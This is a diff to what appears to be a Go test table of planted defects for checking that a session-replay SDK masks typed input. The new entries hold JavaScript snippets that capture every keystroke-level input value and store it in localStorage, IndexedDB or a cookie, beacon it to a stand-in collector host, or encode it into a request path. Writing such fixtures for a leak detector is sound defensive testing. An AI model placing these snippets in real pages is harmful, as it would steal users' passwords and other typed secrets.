@@ -99,6 +99,33 @@ var masking = []Defect{
 		},
 	},
 	{
+		Name: "secret-in-local-storage", Section: "D", What: "the SDK keeps what is typed in local storage", Scenario: "planted/page",
+		Caught: Sign{Claim: "no leak", Kind: "stored", Name: "name"},
+		After:  `addEventListener('input', e => localStorage.setItem('replay-buffer', JSON.stringify([e.target.value])), true);`,
+	},
+	{
+		Name: "secret-in-a-database", Section: "D", What: "the SDK keeps what is typed in a database of the browser", Scenario: "planted/page",
+		Caught: Sign{Claim: "no leak", Kind: "stored", Name: "name"},
+		After: `{ const asked = indexedDB.open('replay-events', 1);
+			asked.onupgradeneeded = () => asked.result.createObjectStore('events', {keyPath: 'id'});
+			addEventListener('input', e => asked.result?.transaction('events', 'readwrite').objectStore('events').put({id: 1, text: e.target.value}), true) }`,
+	},
+	{
+		Name: "secret-in-a-cookie", Section: "D", What: "the SDK keeps what is typed in a cookie", Scenario: "planted/page",
+		Caught: Sign{Claim: "no leak", Kind: "stored", Name: "name"},
+		After:  `addEventListener('input', e => { document.cookie = 'sr=' + encodeURIComponent(e.target.value) }, true);`,
+	},
+	{
+		Name: "secret-to-a-foreign-host", Section: "D", What: "a beacon with what is typed goes to a third party", Scenario: "planted/page",
+		Caught: leaked("name"),
+		After:  `addEventListener('change', () => {}); addEventListener('input', e => { if (e.target.value.length > 12) navigator.sendBeacon('https://collector.example/events', JSON.stringify({v: e.target.value})) }, true);`,
+	},
+	{
+		Name: "secret-in-a-path", Section: "D", What: "the SDK asks the page's server for an address with a secret in it", Scenario: "planted/page",
+		Caught: leaked("name"),
+		After:  `addEventListener('input', e => { if (e.target.value.length > 12) void fetch('/ping/' + btoa(e.target.value)).catch(() => {}) }, true);`,
+	},
+	{
 		Name: "secret-in-a-header", Section: "D", What: "a header of an upload carries a secret", Scenario: "planted/masking",
 		Caught: leaked("name"),
 		Recording: func(t *tape) {
